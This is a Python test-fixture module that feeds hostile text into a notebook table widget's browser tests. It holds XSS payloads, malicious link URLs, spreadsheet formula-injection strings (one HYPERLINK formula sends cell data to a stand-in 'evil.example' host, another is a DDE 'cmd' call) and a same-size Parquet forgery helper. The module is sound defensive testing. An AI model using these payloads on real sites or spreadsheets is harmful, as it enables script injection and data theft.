"""Hostile text for the tables, shared by the browser tests and the notebook kernel they
drive (not a test module).

Every payload, if it ever became markup, sets ``window.__pwned`` and opens a dialog;
the browser test counts both. Each comes with and without a ``&`` (DataTables decodes
search text that holds ``&`` through ``innerHTML``). The frames put the payloads in
every text column and in a column's name, cycling so that each payload is in every
table's shown columns.
"""

from __future__ import annotations

import copy
import re
import unicodedata
from collections.abc import Iterable
from typing import Any

import pandas as pd

RUN = "window.__pwned=1;alert(1)"
"""What a payload runs if it ever runs."""

_MARKUP = [
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    "<iframe srcdoc='<script>parent.__pwned=1;parent.alert(1)</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<script>{RUN}</script>",
    f"javascript:{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'=HYPERLINK("javascript:{RUN}","open")',
]
_ENTITIES = [
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;svg onload={RUN}&amp;gt;",
]

PAYLOADS: list[str] = [p for m in _MARKUP for p in (m, f"Q&A {m}")] + _ENTITIES
"""The corpus: each markup payload as it is and after ``Q&A ``, and entities that
decode into tags."""

URLS: list[str] = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"https://example.com/'><img src=x onerror={RUN}>",
    f'https://example.com/"onmouseover="{RUN}',
    f"https://example.com/?q=<svg onload={RUN}>&x=1",
]
"""Link payloads: not http(s), or http(s) that try to leave the attribute."""

NAME = f"Q&A <img src=x onerror={RUN}>"
"""A column's name."""

QUERY = "hostile shoes"
"""The ad search's query (answered with :func:`ads_body`)."""


def _cycle(values: list[str], n: int, shift: int) -> list[str]:
    return [values[(i + shift) % len(values)] for i in range(n)]


def plain_frame() -> pd.DataFrame:
    """A frame of no kind of ours: a payload a row, and a column named by each payload."""
    n = len(PAYLOADS)
    frame = pd.DataFrame({"text": PAYLOADS, "n": range(-(n // 2), n - n // 2)})
    for shift, name in enumerate(PAYLOADS[:6], start=1):
        frame[name] = _cycle(PAYLOADS, n, shift)
    frame["link"] = _cycle(URLS, n, 0)
    return frame


def _hostile(frame: pd.DataFrame, shift: int = 0) -> pd.DataFrame:
    """``frame`` with payloads in every text column (links where the column holds URLs),
    lists of payloads in every list column, and one more column named :data:`NAME`."""
    out = frame.copy()
    n = len(out)
    for i, (name, column) in enumerate(frame.items()):
        if pd.api.types.is_string_dtype(column.dtype) and not isinstance(
            column.dtype, pd.CategoricalDtype
        ):
            urls = column.dropna().astype(str).str.startswith("http").mean() > 0.5
            values = _cycle(URLS if urls else PAYLOADS, n, shift + i)
            out[name] = pd.array(values, dtype=column.dtype)
        elif column.dtype == object and column.map(lambda v: isinstance(v, list)).any():
            out[name] = [[p, URLS[j % len(URLS)]] for j, p in enumerate(_cycle(PAYLOADS, n, i))]
    out[NAME] = _cycle(PAYLOADS, n, shift + 3)
    out.attrs = dict(frame.attrs)  # (ours stays ours)
    return out


def comments_frame() -> pd.DataFrame:
    """The sandbox's comments of one post (50), hostile."""
    from socialframe.sandbox import example_comments

    return _hostile(example_comments(50))


def ads_frame() -> pd.DataFrame:
    """The sandbox's example ads (60), hostile."""
    from socialframe.sandbox import example_ads

    return _hostile(example_ads(), shift=5)


def ads_body() -> dict[str, Any]:
    """One page of the service's ad search answer with every text hostile: the sandbox
    serves it (``sandbox.inject(ads_body())``) to the ad search widget."""
    from socialframe.sandbox import ads_body as real

    body = copy.deepcopy(real({"query": "running shoes"}))
    ads = [ad for group in body["data"]["ads"] for ad in group]
    assert len(ads) >= len(PAYLOADS), len(ads)
    for i, ad in enumerate(ads):
        snap = ad["snapshot"]
        text = PAYLOADS[i % len(PAYLOADS)]
        ad["page_name"] = snap["page_name"] = PAYLOADS[(i + 1) % len(PAYLOADS)]
        snap["body"] = {"text": text}
        snap["title"] = PAYLOADS[(i + 2) % len(PAYLOADS)]
        snap["display_format"] = PAYLOADS[(i + 3) % len(PAYLOADS)]
        snap["link_url"] = URLS[i % len(URLS)]
        snap["page_profile_uri"] = URLS[(i + 1) % len(URLS)]
        snap["images"] = [{"original_image_url": URLS[(i + 2) % len(URLS)]}]
        ad["publisher_platform"] = [PAYLOADS[(i + 4) % len(PAYLOADS)], "FACEBOOK"]
    body["data"]["page_info"] = {"end_cursor": None, "has_next_page": False}
    return body


# -- what a spreadsheet would run ---------------------------------------------------------

FORMULAS = [
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "-5 stars",
    "+44 20 7946 0000",
    "=cmd|' /C calc'!A0",
    "\x00=1+1",
    "ok;=1+1",
    "tab\t@SUM(1)",
    "line\n-1+1",
    " =1+1",
    "see =1+1",
]
"""Text a spreadsheet takes for a formula (OWASP's CSV injection: = + - @ tab CR; NUL,
which LibreOffice drops), at its start or where a spreadsheet reading the file with
another separator (``;``, a space, a tab), trimming spaces or cut at a line break
starts a cell."""

AS_IT_IS = [
    "<script>alert(1)</script> stays",
    "a <!-- a comment --> b",
    "&lt;b&gt; &amp; &#60; &nbsp;",
    "  padded  ",
    "line\nbreak",
    "cr\rhere",
    "crlf\r\nhere",
    'say "hi", then',
    f"Q&A <img src=x onerror={RUN}>",
    "",
    "plain",
    "x=1+2",
]
"""Text that is no formula, which Buttons' own export would change (drop ``<script>``
and comments, trim, decode entities)."""


def csv_frame() -> pd.DataFrame:
    """Text to download (a row each), numbers that stay numbers, and names a spreadsheet
    would run."""
    text = FORMULAS + AS_IT_IS
    n = len(text)
    return pd.DataFrame(
        {
            "text": text,
            "count": pd.array([(-1) ** i * 5 * 10 ** (i % 5) for i in range(n)], dtype="Int64"),
            "share": pd.array([-1.5 + i / 4 for i in range(n)], dtype="Float64"),
            "=SUM(1;2)": list(reversed(text)),
            "<b>name</b> & more": ["-" + t for t in text],
            "total;=SUM(1)": text[1:] + text[:1],
        }
    )


# -- what DataTables' search finds -------------------------------------------------------

_WORDS = re.compile('!?["\u201c][^"\u201d]+["\u201d]|[^ ]+')


def _normal(text: str) -> str:
    """DataTables' normalisation: accents taken off."""
    decomposed = unicodedata.normalize("NFD", text)
    if len(decomposed) == len(text):
        return decomposed
    return re.sub("[\u0300-\u036f]", "", decomposed)


def matches(rows: Iterable[list[str]], term: str) -> int:
    """How many ``rows`` (each the plain text of its cells) DataTables' smart search
    for ``term`` keeps: DataTables 2.3's rule, words in any order and any case, each a
    substring of the row's cells (line breaks as spaces, accents off) joined by two
    spaces; a word in quotes is a phrase; ``!word`` leaves the rows holding it out."""
    wanted, unwanted = [], []
    for word in _WORDS.findall(_normal(term)):
        negate = word.startswith("!")
        if negate:
            word = word[1:]
        quoted = re.fullmatch('"(.*)"', word) or re.fullmatch("\u201c(.*)\u201d", word)
        word = quoted.group(1) if quoted else word
        if negate:
            if len(word) > 1:
                unwanted.append(word.lower())
            continue
        wanted.append(word.replace('"', "").lower())
    count = 0
    for cells in rows:
        text = "  ".join(_normal(re.sub("[\r\n\u2028]", " ", cell)) for cell in cells).lower()
        if all(w in text for w in wanted) and not any(w in text for w in unwanted):
            count += 1
    return count


def same_size_forgery(original: bytes) -> bytes:
    """A Parquet file of the same columns and exactly as many bytes as ``original``,
    its texts replaced (padding goes between the last column chunk and the footer,
    which readers locate from the end)."""
    import io

    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pq.read_table(io.BytesIO(original))
    texts = pa.array(["FORGED"] * len(table), pa.string())
    forged = table.set_column(
        table.schema.get_field_index("text"), table.schema.field("text"), texts
    )
    out = io.BytesIO()
    pq.write_table(forged, out, compression="zstd")
    data = out.getvalue()
    assert len(data) < len(original)
    footer = int.from_bytes(data[-8:-4], "little") + 8
    return data[:-footer] + b"\0" * (len(original) - len(data)) + data[-footer:]
